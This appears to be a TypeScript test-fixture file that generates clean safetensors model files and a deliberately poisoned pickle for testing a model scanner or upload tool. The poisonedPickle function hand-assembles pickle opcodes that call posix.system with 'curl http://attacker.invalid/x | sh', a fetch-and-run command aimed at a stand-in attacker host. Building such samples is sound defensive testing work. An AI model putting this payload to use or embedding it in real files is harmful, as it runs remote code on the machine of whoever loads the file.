import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

const LARGE = 40 * 1024 * 1024;

const concat = (...parts: Uint8Array[]): Uint8Array => Uint8Array.from(parts.flatMap((part) => [...part]));

/** A safetensors file with one tensor of four numbers: a length, a JSON header, the data. */
export const safetensors = (): Uint8Array => {
  const header = ascii(JSON.stringify({ weight: { dtype: "F32", shape: [4], data_offsets: [0, 16] } }));
  const length = new Uint8Array(8);
  new DataView(length.buffer).setBigUint64(0, BigInt(header.length), true);
  return concat(length, header, new Uint8Array(new Float32Array([0.5, -1, 2, 0.25]).buffer));
};

/** A larger one, so that the upload takes a moment: one tensor of zeros. */
export const writeLargeModel = async (directory: string): Promise<string> => {
  const path = join(directory, "large.safetensors");
  const size = LARGE;
  const header = ascii(
    JSON.stringify({ weight: { dtype: "F32", shape: [size / 4], data_offsets: [0, size] } }),
  );
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  await writeFile(path, Buffer.concat([length, header, Buffer.alloc(size)]));
  return path;
};

/** A pickle that calls a shell when it is loaded, written opcode by opcode; nothing here ever loads it. */
export const poisonedPickle = (): Uint8Array => {
  const command = ascii("curl http://attacker.invalid/x | sh");
  return concat(
    Uint8Array.of(0x80, 2), // PROTO 2
    ascii("cposix\nsystem\n"), // GLOBAL posix.system
    Uint8Array.of(0x58, command.length, 0, 0, 0), // BINUNICODE
    command,
    Uint8Array.of(0x85, 0x52, 0x2e), // TUPLE1, REDUCE, STOP
  );
};

/** A folder with a clean model, one file of it in a folder of its own. */
export const writeCleanModel = async (directory: string): Promise<string> => {
  const folder = join(directory, "fruit-classifier");
  await mkdir(join(folder, "weights"), { recursive: true });
  await writeFile(join(folder, "config.json"), JSON.stringify({ classes: ["apple", "pear"] }));
  await writeFile(join(folder, "weights", "model.safetensors"), safetensors());
  return folder;
};

export const writePoisonedModel = async (directory: string): Promise<string> => {
  const path = join(directory, "fruit-improved.pkl");
  await writeFile(path, poisonedPickle());
  return path;
};
